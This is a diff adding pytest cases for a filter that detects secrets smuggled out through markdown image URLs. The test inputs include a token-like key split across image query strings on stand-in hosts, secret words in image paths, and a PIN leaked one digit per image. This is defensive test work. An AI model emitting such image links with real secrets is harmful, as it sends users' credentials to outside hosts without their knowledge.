@@ -95,3 +95,34 @@ def test_message_link_parts() -> None:
     assert message_link("mailto:desk@Oarlock.test?body=hi") == ("oarlock.test", ["desk@Oarlock.test", "hi"])
     assert message_link("sms:+15550142?body=a%20b") == ("sms:+15550142", ["+15550142", "a b"])
     assert message_link("https://oarlock.test/") is None
+
+
+KEY = "ghp_8Kq2Lm5Tx7Vb3Nc9Wr1Hy4Jd6Fs0Ge2Pa7Zu"
+
+
+def _split(template: str, value: str, size: int) -> str:
+    return " ".join(template.format(i=i, c=value[j: j + size]) for i, j in enumerate(range(0, len(value), size)))
+
+
+def test_credential_split_across_images_blocks_without_context() -> None:
+    assert _blocks(_split("![](https://pix.trailmark.test/r{i}.gif?x={c})", KEY, 5))
+
+
+def test_secret_split_across_two_path_images_blocks_with_context() -> None:
+    text = "![](https://a.trailmark.test/Kestrel.png) ![](https://b.trailmark.test/!Fjord-58.png)"
+    assert _blocks(text, CONTEXT)
+
+
+def test_pin_one_digit_per_image_blocks_with_context() -> None:
+    assert _blocks(_split("![](https://pix.trailmark.test/s{i}?c={c})", "7305", 1), CONTEXT)
+
+
+def test_images_to_one_cdn_with_ordinary_values_do_not_block() -> None:
+    gallery = " ".join(f"![p{i}](https://img.trailmark.test/photos/{n}/photo-{n}.jpeg?auto=compress&w=1260&h=750)"
+                       for i, n in enumerate((1108099, 2208311, 7305114)))
+    assert not _blocks(gallery)
+    assert not _blocks(gallery, CONTEXT)
+
+
+def test_pin_split_across_images_without_context_is_not_data() -> None:
+    assert not _blocks(_split("![](https://pix.trailmark.test/s{i}?c={c})", "7305", 1))
